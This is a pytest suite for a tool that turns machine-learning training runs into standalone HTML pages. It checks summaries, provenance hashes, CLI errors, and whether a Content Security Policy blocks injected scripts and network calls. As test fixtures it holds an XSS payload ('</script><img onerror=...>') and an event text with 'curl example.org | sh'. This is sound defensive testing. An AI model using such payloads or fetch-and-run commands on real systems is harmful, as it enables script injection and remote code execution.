"""A run as the renderer asks for it, and as one HTML file that needs nothing else."""

from __future__ import annotations

import hashlib
import json
import re
import sys
import time
from pathlib import Path

import pytest
import torch
from safetensors.torch import load

from workbench.__main__ import main
from workbench.analysis.pca import fit_pca
from workbench.run_source import RunSource, provenance, run_page, sample_tokens, spread
from workbench.runs import RECORDED_RUNS, Run
from workbench.widgets import RunView

sys.path.insert(0, str(Path(__file__).parents[1] / "apps"))
import made_up_run

HOSTILE = '</script><img src=x onerror="window.hit=1"><script>window.hit=2</script>'


@pytest.fixture
def run(tmp_path: Path) -> Run:
    writer, images = made_up_run.create(tmp_path / "run", side=64, name=HOSTILE)
    made_up_run.grow(writer, images, 0, 60)
    made_up_run.peak(writer, 40, text="past its best; to fork with it: curl example.org | sh")
    writer.metrics(61, 9.0, {HOSTILE: 1.0})
    writer.close()
    return Run(tmp_path / "run")


def test_it_tells_what_the_run_holds(run: Run) -> None:
    source = RunSource(run)
    summary = source.summary()
    assert summary["steps"] == [0, 20, 40, 60]
    assert summary["run"] == {"id": "run", "name": HOSTILE, "phase": "pretrain", "status": "crashed", "steps": 600}
    assert summary["probes"]["count"] == 4
    assert summary["probes"]["grid"] == (4, 4)
    patch_knn = summary["series"]["dense/patch_knn"]
    assert patch_knn["step"] == [0, 20, 40, 60]
    assert patch_knn["value"] == [row["dense/patch_knn"] for row in run.evaluations()[0]]
    assert summary["events"][-1]["text"] == "past its best", "no command out of a file"
    json.dumps(summary)
    stored, sent = run.probe_features(20).patches.float(), load(source.probes(20, "float16"))["patches"]
    assert torch.equal(sent.float(), stored)
    info, content = source.basis()
    assert info["steps"] == [0, 20, 40, 60]
    tokens = torch.cat([run.probe_features(step).patches.flatten(0, 2).float() for step in summary["steps"]])
    torch.testing.assert_close(load(content)["components"], fit_pca(tokens).components)


def test_chosen_steps_only(run: Run) -> None:
    source = RunSource(run, [40, 0, 40])
    assert source.summary()["steps"] == [0, 40]
    assert source.basis()[0]["steps"] == [0, 40]
    with pytest.raises(ValueError, match="no probe features at step 7"):
        RunSource(run, [7])


def test_it_grows_with_the_run(tmp_path: Path) -> None:
    writer, images = made_up_run.create(tmp_path / "run", side=64)
    source = RunSource(tmp_path / "run")
    assert source.summary()["probes"] is None
    assert source.basis() == ({"steps": [], "explained": []}, None)
    with pytest.raises(ValueError, match="no probe features"):
        run_page(source.run)
    made_up_run.grow(writer, images, 0, 20)
    assert source.summary()["steps"] == [0, 20]
    assert source.basis()[0]["steps"] == [0, 20]
    writer.close()


def test_a_widget_follows_a_run_until_it_ends(tmp_path: Path) -> None:
    writer, images = made_up_run.create(tmp_path / "run", side=64)
    view = RunView(RunSource(tmp_path / "run"))
    thread = view.follow(seconds=0.02)
    time.sleep(0.2)
    assert (thread.is_alive(), view.revision) == (True, 0)
    made_up_run.grow(writer, images, 0, 20)
    writer.event(20, "info", "finished", "done")
    writer.close()
    thread.join(10)
    assert not thread.is_alive()
    assert view.revision >= 1
    assert view._answer("summary", {})[0]["steps"] == [0, 20]


def test_a_sample_of_tokens_is_even_and_of_every_step(run: Run, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("workbench.run_source.TOKENS", 32)
    assert sample_tokens(run, [0, 60]).shape == (32, 64)
    assert spread(list(range(0, 1000, 10)), 5) == [0, 250, 500, 740, 990]


def test_provenance_names_the_run_and_hashes_what_it_rests_on(run: Run) -> None:
    about = provenance(run)
    pixels = run.probe_images().images.numpy().tobytes()
    assert about["images_sha256"] == hashlib.sha256(pixels).hexdigest()
    assert about["config_sha256"] == hashlib.sha256(b"{}").hexdigest()
    assert (about["recipe"], about["seed"], about["code_version"]) == ("cpu_demo", 0, "0.1.0")
    kept = re.search(r'id="provenance">(.*?)</script>', run_page(run), re.DOTALL)
    assert kept
    assert json.loads(kept[1]) == {**about, "steps": [0, 20, 40, 60], "dtype": "int8"}


def test_the_command_writes_a_new_file(run: Run, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "run.html"
    assert main(["page", str(run.path), str(out), "--most-steps", "2", "--language", "zh"]) == 0
    assert "2 steps" in capsys.readouterr().out
    assert '"steps": [0, 60]' in out.read_text(encoding="utf-8")
    for words, said in (
        ([str(out)], "File exists"),
        ([str(tmp_path / "b.html"), "--most-steps", "0"], "1 step or more"),
    ):
        assert main(["page", str(run.path), *words]) == 2
        error = capsys.readouterr().err
        assert said in error
        assert error.count("\n") == 1


def until(page, expression: str, seconds: float = 30.0) -> None:
    """Waits as `wait_for_function` does, which needs the `eval` that the page's policy forbids."""
    end = time.monotonic() + seconds
    while not page.evaluate(f"Boolean({expression})"):
        assert time.monotonic() < end, expression
        page.wait_for_timeout(50)


VIEW = "document.querySelector('.dfw')?.view"


@pytest.mark.browser
def test_the_file_works_without_server_and_network(page, run: Run, tmp_path: Path) -> None:
    out = tmp_path / "run.html"
    assert main(["page", str(run.path), str(out)]) == 0
    page.context.set_offline(True)
    asked = []
    page.on("request", lambda request: asked.append(request.url))
    page.goto(out.as_uri())
    until(page, f"{VIEW}?.frames.held.size === 4 && {VIEW}.matches")
    page.keyboard.press("Home")
    until(page, f"{VIEW}.step === 0")
    before = page.evaluate(f"JSON.stringify({VIEW}.pinned)")
    box = page.locator(".dfw-pic").first.bounding_box()
    page.mouse.click(box["x"] + box["width"] * 0.9, box["y"] + box["height"] * 0.9)
    until(page, f"JSON.stringify({VIEW}.pinned) !== {json.dumps(before)}")
    assert page.evaluate("window.hit") is None
    assert page.locator(".dfw img").count() == 0
    assert all(url.startswith(("file:", "blob:", "data:")) for url in asked)


@pytest.mark.browser
def test_the_policy_lets_no_other_script_run_and_nothing_out(page, page_problems, run: Run, tmp_path: Path) -> None:
    text = run_page(run).replace("<main></main>", "<main></main><script>window.hit = 3</script>")
    (tmp_path / "run.html").write_text(text, encoding="utf-8")
    page.goto((tmp_path / "run.html").as_uri())
    until(page, f"{VIEW}?.matches")
    assert page.evaluate("window.hit") is None
    assert page.evaluate("fetch('https://example.org').then(() => 'sent', () => 'refused')") == "refused"
    assert len(page_problems) >= 2
    assert all("Content Security Policy" in problem for problem in page_problems)
    page_problems.clear()


def test_a_long_run_of_the_usual_size_fits_into_a_mail_server_s_patience(tmp_path: Path) -> None:
    """8 probe images of 14 x 14 patches and 96 channels at 100 steps: 60 MB at most."""
    recorded = Run(RECORDED_RUNS / "lab-stressed")
    steps = recorded.probe_steps()
    page = len(run_page(recorded).encode())
    fixed = len(run_page(recorded, steps[:1]).encode())
    assert fixed + 99 * (page - fixed) / (len(steps) - 1) < 60 * 2**20
